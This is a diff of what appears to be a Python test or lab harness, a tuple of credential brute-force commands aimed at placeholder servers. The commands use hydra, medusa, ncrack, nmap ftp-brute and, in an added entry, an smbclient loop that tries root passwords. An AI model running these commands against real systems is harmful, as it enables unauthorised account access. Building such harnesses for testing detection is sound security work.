@@ -31,7 +31,6 @@ GUESSING = (
     _hydra(f"-s 8080 {{server}} http-post-form {_FORM}", "shop", name="http-form"),
     _hydra("redis://{server}", "redis", "-P {folder}/words.txt"),
     _hydra("mysql://{server}", "mariadb", "-l operator -P {folder}/words.txt"),
-    _hydra("smb2://{server}", "smb"),
     _hydra("ldap2://{server}", "ldap", "-l cn=admin,dc=lab -P {folder}/words.txt"),
     _hydra("snmp://{gateway}", "snmp", "-P {folder}/words.txt"),
     _hydra(
@@ -50,7 +49,6 @@ GUESSING = (
     _guess("medusa-ssh", "medusa -h {server} -u admin -P {folder}/words.txt -M ssh -t 2", "ssh"),
     _guess("medusa-ftp", "medusa -h {server} -u admin -P {folder}/few.txt -M ftp -t 2", "ftp"),
     _guess("medusa-telnet", "medusa -h {server} -u root -P {folder}/few.txt -M telnet", "telnet"),
-    _guess("medusa-imap", "medusa -h {server} -u root -P {folder}/few.txt -M imap", "imap"),
     _guess("ncrack-ssh", "ncrack -u pi -P {folder}/words.txt ssh://{server}", "ssh"),
     _guess("ncrack-ftp", "ncrack -u pi -P {folder}/few.txt ftp://{server}", "ftp"),
     _guess("ncrack-telnet", "ncrack -u pi -P {folder}/few.txt telnet://{server}", "telnet"),
@@ -75,6 +73,13 @@ GUESSING = (
         "nmap -n -Pn -p 21 --script ftp-brute --script-args "
         "userdb={folder}/users.txt,passdb={folder}/few.txt {server}",
         "ftp",
+    ),
+    attack(
+        "smbclient-loop",
+        "brute-force",
+        "sh -c 'for n in $(seq {count}); do smbclient -U root%admin$n //{server}/site -c ls; done'",
+        "smb",
+        needs=("smbclient",),
     ),
     _guess("guess-mqtt-slow", "{play} guess-mqtt {server} 12 4", "mqtt-locked", seconds=60),
     _guess("guess-mqtt", "{play} guess-mqtt {server} {count} {pause}", "mqtt-locked"),
